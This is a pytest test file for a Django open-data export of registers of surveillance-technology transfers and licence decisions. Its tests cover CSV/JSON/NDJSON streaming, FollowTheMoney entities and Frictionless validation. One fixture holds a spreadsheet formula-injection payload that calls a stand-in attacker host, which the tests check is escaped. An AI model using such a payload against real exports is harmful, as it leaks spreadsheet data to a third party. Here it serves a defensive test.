"""Open data at /data/: whole registers streamed in three formats, a Frictionless data
package that `frictionless validate` accepts, FollowTheMoney entities that the
`followthemoney` library accepts, and the audit checkpoint beside them."""

import csv
import io
import json
from datetime import date
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from followthemoney import model

from oversight.core import audit
from oversight.licensing.models import Decision
from oversight.registry.models import Jurisdiction, Organisation, Technology, Transfer

pytestmark = pytest.mark.django_db


def body(response: Any) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def rows(db: None) -> dict[str, Any]:
    gb = Jurisdiction.objects.update_or_create(code="GB", defaults={"name": "United Kingdom"})[0]
    bh = Jurisdiction.objects.update_or_create(code="BH", defaults={"name": "Bahrain"})[0]
    vendor = Organisation.objects.create(
        slug="acme", name="Acme Intrusion", kind="company", jurisdiction=gb, aliases=["Acme"]
    )
    agency = Organisation.objects.create(slug="nsa-bh", name="Bahrain NSA", kind="agency")
    Technology.objects.create(
        slug="finspy",
        name="FinSpy",
        vendor=vendor,
        category="intrusion",
        control_codes=["4.A.5"],
        published=True,
    )
    Transfer.objects.create(
        external_id="t-1",
        title='=HYPERLINK("http://evil.example/?"&A1)',
        supplier=vendor,
        recipient_jurisdiction=bh,
        end_user=agency,
        categories=["intrusion"],
        year=2012,
        source_links=["https://example.org/report"],
    )
    Transfer.objects.create(
        external_id="t-hidden",
        title="Hidden",
        supplier=vendor,
        recipient_jurisdiction=bh,
        published=False,
    )
    Decision.objects.create(
        reference="GB-1",
        outcome="refused",
        exporting_jurisdiction=gb,
        destination=bh,
        value="-1250.50",
        currency="GBP",
        control_codes=["5.A.2"],
        decided_on=date(2013, 2, 1),
        published_at=timezone.now(),
    )
    return {"vendor": vendor}


def test_the_index_lists_every_register_with_its_downloads_and_the_checkpoint(
    client: Client, rows: Any
) -> None:
    page = client.get("/data/").content.decode()
    for href in ("/data/transfers.csv", "/data/transfers.json", "/data/transfers.ndjson"):
        assert f'href="{href}"' in page
    assert "/data/datapackage.json" in page and "/data/ftm/entities.ndjson" in page
    head = audit.checkpoint()
    assert head.hash in page
    text = client.get("/data/audit-checkpoint.txt").content.decode()
    assert text == head.text()


def test_whole_registers_stream_in_three_formats_without_formulas(
    client: Client, rows: Any
) -> None:
    table = list(csv.DictReader(io.StringIO(body(client.get("/data/transfers.csv")))))
    assert [row["external_id"] for row in table] == ["t-1"]  # never the unpublished one
    assert table[0]["title"].startswith("'=HYPERLINK")
    decisions = list(csv.DictReader(io.StringIO(body(client.get("/data/licence-decisions.csv")))))
    assert decisions[0]["value"] == "-1250.50"  # a number stays a number
    listed = json.loads(body(client.get("/data/transfers.json")))
    assert listed[0]["title"].startswith("=HYPERLINK")  # JSON carries the exact value
    lines = body(client.get("/data/transfers.ndjson")).splitlines()
    assert [json.loads(line)["external_id"] for line in lines] == ["t-1"]


@pytest.mark.parametrize("url", ["/data/nowhere.csv", "/data/transfers.xlsx"])
def test_unknown_registers_and_formats_are_not_found(client: Client, db: None, url: str) -> None:
    assert client.get(url).status_code == 404


def test_followthemoney_entities_are_valid_and_linked(client: Client, rows: Any) -> None:
    entities = [
        json.loads(line) for line in body(client.get("/data/ftm/entities.ndjson")).splitlines()
    ]
    ids = {entity["id"] for entity in entities}
    for entity in entities:
        proxy = model.get_proxy(entity, cleaned=False)  # cleans every value, refuses unknowns
        assert proxy.to_dict()["properties"] == entity["properties"], entity
        for prop in proxy.iterprops():
            if prop.type.name == "entity":
                assert set(proxy.get(prop)) <= ids, (entity["id"], prop.name)
    by_id = {entity["id"]: entity for entity in entities}
    assert by_id["oversight-org-acme"]["schema"] == "Company"
    assert by_id["oversight-org-nsa-bh"]["schema"] == "PublicBody"
    assert by_id["oversight-tech-finspy"]["schema"] == "Asset"
    contract = by_id["oversight-transfer-t-1"]
    assert contract["schema"] == "Contract" and contract["properties"]["country"] == ["bh"]
    assert contract["properties"]["authority"] == ["oversight-org-nsa-bh"]
    award = by_id["oversight-transfer-award-t-1"]
    assert award["properties"]["supplier"] == ["oversight-org-acme"]
    assert "oversight-transfer-t-hidden" not in ids


@pytest.mark.django_db(transaction=True)
def test_the_data_package_passes_frictionless_validate(live_server: Any, rows: Any) -> None:
    frictionless = pytest.importorskip("frictionless")
    report = frictionless.validate(f"{live_server.url}/data/datapackage.json")
    assert report.valid, report.flatten(["title", "type", "note"])
    names = {task.name for task in report.tasks}
    assert {"transfers", "licence-decisions", "organisations", "technologies"} <= names
    descriptor = json.loads(Client().get("/data/datapackage.json").content)
    assert descriptor["oversight_audit_checkpoint"]["hash"] == audit.checkpoint().hash
    transfers = next(r for r in descriptor["resources"] if r["name"] == "transfers")
    types = {f["name"]: f["type"] for f in transfers["schema"]["fields"]}
    assert types["year"] == "integer" and types["categories"] == "array"
